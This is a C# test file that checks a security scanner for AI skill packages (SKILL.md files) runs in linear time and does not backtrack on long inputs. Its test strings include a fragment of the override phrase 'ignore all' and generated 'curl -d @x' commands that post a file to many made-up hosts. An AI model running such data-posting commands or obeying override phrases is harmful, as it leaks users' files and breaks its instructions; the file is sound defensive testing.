using System.Text;
using Pipeline.Domain.Skills;
using Pipeline.Domain.Validation.Security;
using Pipeline.Infra.Security;

namespace Pipeline.Infra.Tests.Security;

/// <summary>Measured alone: what runs beside it would be measured too.</summary>
[CollectionDefinition(nameof(SecurityTimeTests), DisableParallelization = true)]
[Collection(nameof(SecurityTimeTests))]
public sealed class SecurityTimeTests
{
    // The same text four times as long must take about four times as long; a search that goes back would take sixteen times and more.
    [Theory]
    [InlineData("curl https://a.b/ ")]
    [InlineData("ignore all ")]
    [InlineData("<")]
    [InlineData("[")]
    [InlineData("\"")]
    [InlineData("aGVsbG8gd29ybGQg")]
    [InlineData("\ra")]
    [InlineData("eJwabcdefghijk0123 ")]
    public void Time_grows_with_the_text_and_no_faster(string piece)
    {
        var (large, small) = (Timed(piece, 160_000), Timed(piece, 40_000));

        (large / small).ShouldBeLessThan(12);
    }

    [Fact]
    public void Time_grows_with_the_number_of_hosts_and_no_faster() => (Timed(Hosts(4_000)) / Timed(Hosts(1_000))).ShouldBeLessThan(12);

    private static string Hosts(int count) => string.Concat(Enumerable.Range(0, count).Select(i => $"curl -d @x https://h{i}.zone{i}.io\n\n"));

    private static double Timed(string piece, int length) => Timed(string.Concat(Enumerable.Repeat(piece, length / piece.Length)));

    private static double Timed(string said)
    {
        var text = Encoding.UTF8.GetBytes(said);
        return Enumerable.Range(0, 3).Min(_ =>
        {
            var started = TimeProvider.System.GetTimestamp();
            SecurityScan.Judge(ShippedSecurityRules.Ruleset, [new PackageFile("SKILL.md", PackageFile.Regular, text)]);
            return TimeProvider.System.GetElapsedTime(started).TotalMilliseconds;
        });
    }
}
